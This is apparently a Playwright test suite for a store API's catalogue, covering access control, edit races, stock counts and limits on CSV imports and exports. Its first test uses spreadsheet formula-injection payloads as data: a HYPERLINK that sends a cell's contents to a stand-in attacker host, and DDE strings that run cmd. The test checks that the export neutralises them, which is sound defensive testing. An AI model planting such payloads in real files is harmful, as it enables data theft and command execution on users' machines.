import http from 'node:http';
import type { APIRequestContext } from '@playwright/test';
import { expect, test } from '../playwright/fixtures';
import { parse } from 'csv-parse/sync';
import { appTokenFor, bearer, uniqueEmail } from './identity';
import { expectRefused } from './refusal';
import { addProduct, type Made } from '../playwright/storeApi';

/** Running the catalogue: who may, what a price list may carry, and edits that race. */

/** A product as the API shows it. */
interface Product extends Made {
  availablequantity: number;
}

/** A part of the suite's own: 100 in stock, none kept back. */
const newProduct = (request: APIRequestContext, admin: string, name: string) =>
  addProduct(request, admin, { name, price: 10, stock: 100, keptBack: 0 });

const multipart = (csv: string) => ({
  file: { name: 'list.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) },
});

test('a name made to run as a spreadsheet formula leaves the export as text, and comes back the same', async ({
  tokens,
  request,
}) => {
  const admin = await tokens.admin();
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+2',
    '-2+3+cmd|"/C calc"!A0',
  ];
  const products = [];
  for (const name of formulas) products.push(await newProduct(request, admin, name));
  const exported = await request.get('/api/product/export.csv', { headers: bearer(admin) });
  expect(exported.status()).toBe(200);
  const rows = parse(await exported.text(), { bom: true, columns: true }) as Array<
    Record<string, string>
  >;
  for (const product of products) {
    const row = rows.find((r) => r.sku === product.sku)!;
    // A spreadsheet runs a cell that starts with = + - @ (or a tab or a return); '= is text.
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(row.name).toBe(`'${product.name}`);
  }
  // The round trip gives the names back unchanged.
  const header = 'sku,name';
  const csv = [header, ...products.map((p) => `${p.sku},"'${p.name.replace(/"/g, '""')}"`)];
  const report = await request.post('/api/product/import?dryRun=true', {
    headers: bearer(admin),
    multipart: multipart(csv.join('\n')),
  });
  expect(await report.json()).toEqual(
    expect.objectContaining({ unchanged: products.length, updated: 0, rejectedCount: 0 }),
  );
});

test('shoppers and strangers cannot edit, restock, retire, export, import or read a history', async ({
  tokens,
  request,
}) => {
  const admin = await tokens.admin();
  const product = await newProduct(request, admin, `Guarded part ${Date.now()}`);
  const shopper = await appTokenFor(request, uniqueEmail('catalogue-shopper'));
  const id = product._id;
  const attempts = (headers: Record<string, string>) => [
    request.patch(`/api/product/${id}`, { headers, data: { version: 1, price: 0.01 } }),
    request.post(`/api/product/${id}/stock`, { headers, data: { delta: -100, reason: 'theft' } }),
    request.post(`/api/product/${id}/retire`, { headers, data: {} }),
    request.post(`/api/product/${id}/restore`, { headers, data: {} }),
    request.get(`/api/product/${id}/history`, { headers }),
    request.get('/api/product/export.csv', { headers }),
    request.post('/api/product/import', {
      headers,
      multipart: multipart(`sku,price\n${product.sku},0.01\n`),
    }),
  ];
  for (const res of await Promise.all(attempts(bearer(shopper)))) await expectRefused(res, 403);
  for (const res of await Promise.all(attempts({}))) await expectRefused(res, 401);
  const after = (await (await request.get(`/api/productDetails/${id}`)).json()) as Product;
  expect(after).toEqual(expect.objectContaining({ price: 10, availablequantity: 100, version: 1 }));
});

test('edits racing from the same version: one wins, the others are told, none is lost silently', async ({
  tokens,
  request,
}) => {
  const admin = await tokens.admin();
  const product = await newProduct(request, admin, `Raced part ${Date.now()}`);
  const prices = Array.from({ length: 12 }, (_, i) => 20 + i);
  const answers = await Promise.all(
    prices.map((price) =>
      request.patch(`/api/product/${product._id}`, {
        headers: bearer(admin),
        data: { version: product.version, price },
      }),
    ),
  );
  const statuses = answers.map((res) => res.status()).sort();
  expect(statuses).toEqual([200, ...Array<number>(prices.length - 1).fill(409)]);
  const winner = (await answers.find((res) => res.status() === 200)!.json()) as Product;
  const now = (await (await request.get(`/api/productDetails/${product._id}`)).json()) as Product;
  expect(now).toEqual(expect.objectContaining({ price: winner.price, version: 2 }));
  const history = await request.get(`/api/product/${product._id}/history`, {
    headers: bearer(admin),
  });
  expect(
    (await history.json()).filter((e: { action: string }) => e.action === 'edit'),
  ).toHaveLength(1);
});

test('units taken out in a race never leave the stock below zero', async ({ tokens, request }) => {
  const admin = await tokens.admin();
  const product = await newProduct(request, admin, `Counted part ${Date.now()}`);
  const answers = await Promise.all(
    Array.from({ length: 25 }, () =>
      request.post(`/api/product/${product._id}/stock`, {
        headers: bearer(admin),
        data: { delta: -10, reason: 'count correction' },
      }),
    ),
  );
  expect(answers.filter((res) => res.status() === 200)).toHaveLength(10);
  for (const res of answers.filter((res) => res.status() !== 200)) await expectRefused(res, 409);
  const now = (await (await request.get(`/api/productDetails/${product._id}`)).json()) as Product;
  expect(now.availablequantity).toBe(0);
});

test('a price list over the size limit is refused whole, and the store keeps answering', async ({
  tokens,
  request,
}) => {
  const admin = await tokens.admin();
  // Long rows, so the file passes the size limit well before the row limit.
  const row = `SEC-BIG,Big file part,${'A part of a very large file. '.repeat(70)},1,0,1\n`;
  const csv = `sku,name,description,price,orderquantity,availablequantity\n${row.repeat(
    Math.ceil((51 * 1024 * 1024) / row.length),
  )}`;
  const res = await request.post('/api/product/import?dryRun=true', {
    headers: bearer(admin),
    multipart: multipart(csv),
  });
  await expectRefused(res, 413);
  expect((await res.json()).message).toContain('larger than 50 MB');
  expect((await request.get('/api/health')).status()).toBe(200);
});

/**
 * Sends the start of a price list as a multipart upload and keeps the upload open: resolves with
 * the API's answer only if it comes before the rest of the file, which is never sent.
 */
function answerBeforeTheEnd(
  baseURL: string,
  token: string,
  start: string,
): Promise<{ status: number; body: { message: string; field?: string } }> {
  const boundary = `----price-list-${Date.now()}`;
  const head =
    `--${boundary}\r\n` +
    'Content-Disposition: form-data; name="file"; filename="list.csv"\r\n' +
    'Content-Type: text/csv\r\n\r\n';
  return new Promise((resolve, reject) => {
    const upload = http.request(
      new URL('/api/product/import?dryRun=true', baseURL),
      {
        method: 'POST',
        headers: {
          ...bearer(token),
          'content-type': `multipart/form-data; boundary=${boundary}`,
          // A file of 45 MB, as the header says; only its start is ever sent.
          'content-length': String(45 * 1024 * 1024),
        },
      },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => {
          upload.destroy();
          resolve({
            status: response.statusCode ?? 0,
            body: JSON.parse(Buffer.concat(chunks).toString()) as never,
          });
        });
      },
    );
    upload.on('error', reject);
    upload.write(head + start);
  });
}

test('a price list built to be slow to read is refused while it arrives: 4 million columns, one cell of 45 MB', async ({
  tokens,
  baseURL,
}) => {
  const admin = await tokens.admin();
  const attempts: Array<[string, string, RegExp]> = [
    [
      'a header of 4 million columns',
      `sku${','.repeat(4_000_000)}\n`,
      /^Line 1 has more than 1,000 cells: a price list has one cell for each of its columns/,
    ],
    [
      'one cell of 45 MB, of which 1 MB is sent',
      `sku,name\nA1,${'x'.repeat(1024 * 1024)}`,
      /^Line 2 is longer than 64 KB, more than a product's cells ever take/,
    ],
  ];
  for (const [what, start, message] of attempts) {
    // Read while it arrives: refused once the line passed the limit, not after the whole file
    // (an API that waited for the rest would never answer, and the test would time out).
    const { status, body } = await answerBeforeTheEnd(baseURL!, admin, start);
    expect([status, body.field], what).toEqual([400, 'file']);
    expect(body.message, what).toMatch(message);
  }
});
